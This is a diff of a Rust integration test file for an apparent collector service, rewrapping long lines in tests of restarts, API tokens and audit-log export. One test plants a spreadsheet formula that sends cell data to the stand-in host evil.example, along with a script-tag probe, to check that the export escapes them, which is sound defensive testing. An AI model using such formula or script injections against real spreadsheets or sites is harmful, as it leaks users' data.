@@ -66,7 +66,8 @@ async fn a_restart_forgets_neither_accounts_nor_second_factors_nor_tokens() {
     let admin = collector.sign_in().await;
     let ana = person(&collector, &admin, "ana", "operator", None).await;
     let made = send(&collector, &ana, "POST", "/api/v1/api-tokens", &json!({ "name": "ci" })).await.json();
-    let offer = send(&collector, &admin, "POST", "/api/auth/second-factor/begin", &json!({ "password": crate::harness::PASSWORD })).await;
+    let offer =
+        send(&collector, &admin, "POST", "/api/auth/second-factor/begin", &json!({ "password": crate::harness::PASSWORD })).await;
     let secret = unbase32(offer.json()["secret"].as_str().unwrap());
     let step = now_ms() / totp::STEP_MS;
     let code = format!("{:06}", totp::code_of(&secret, step));
@@ -139,7 +140,10 @@ async fn a_token_for_programs_reads_but_changes_no_account() {
     assert_eq!(get(&collector, &token, "/api/v1/resources").await.status, 401);
     let rows = collector.json(&admin, "/api/v1/tokens").await;
     let row = &rows["tokens"][0];
-    assert_eq!((&row["name"], &row["tenant"], &row["created_by"]), (&json!("made by a program"), &json!("acme"), &json!("admin")));
+    assert_eq!(
+        (&row["name"], &row["tenant"], &row["created_by"]),
+        (&json!("made by a program"), &json!("acme"), &json!("admin"))
+    );
     collector.stop().await;
 }
 
@@ -170,7 +174,10 @@ async fn the_audit_log_is_a_file_in_which_strangers_words_stay_words() {
     let formula = "=HYPERLINK(\"http://evil.example?\"&A1,\"click\")";
     let agent = format!("{formula}, \"quoted\"; <script>alert(1)</script>");
     person(&collector, &admin, "+ana", "viewer", None).await;
-    assert_eq!(login(&collector, &[("user-agent", &agent)], json!({ "username": "+ana", "password": PASSWORD })).await.status, 200);
+    assert_eq!(
+        login(&collector, &[("user-agent", &agent)], json!({ "username": "+ana", "password": PASSWORD })).await.status,
+        200
+    );
     agent_token(&collector, &admin, formula, None).await;
     let reply = get(&collector, &admin, "/api/v1/audit/export").await;
     assert_eq!(reply.status, 200);
